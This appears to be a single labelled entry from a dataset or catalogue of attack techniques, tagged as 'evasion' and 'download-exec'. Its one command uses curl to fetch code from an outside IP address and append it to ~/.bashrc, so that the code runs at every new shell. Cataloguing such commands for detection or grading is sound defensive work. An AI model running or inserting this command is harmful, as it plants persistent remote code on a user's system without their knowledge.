# evasion: downloaded code appended to ~/.bashrc runs at the next shell
# grade: medium; does: download-exec
curl -fsS http://203.0.113.5/s >> ~/.bashrc
